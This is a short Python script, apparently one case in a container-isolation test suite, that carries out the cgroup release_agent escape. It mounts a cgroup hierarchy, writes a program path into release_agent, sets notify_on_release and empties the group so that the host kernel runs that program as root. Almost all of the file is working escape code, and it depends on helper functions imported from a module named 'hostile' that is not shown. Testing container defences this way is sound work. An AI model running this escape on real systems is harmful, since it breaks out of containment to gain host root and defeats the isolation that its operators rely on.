"""Have the kernel run a program as the host's root when a group becomes empty."""

import os
import subprocess

from hostile import bait, hold, mount, put

os.mkdir("groups")
mount("none", "groups", "cgroup", 0, f"none,name={bait.name}")
put("groups/release_agent", bait.program, 0)
os.mkdir("groups/short")
put("groups/short/notify_on_release", "1", 0)
subprocess.run(["/bin/sh", "-c", "echo 0 > groups/short/cgroup.procs"])
hold()
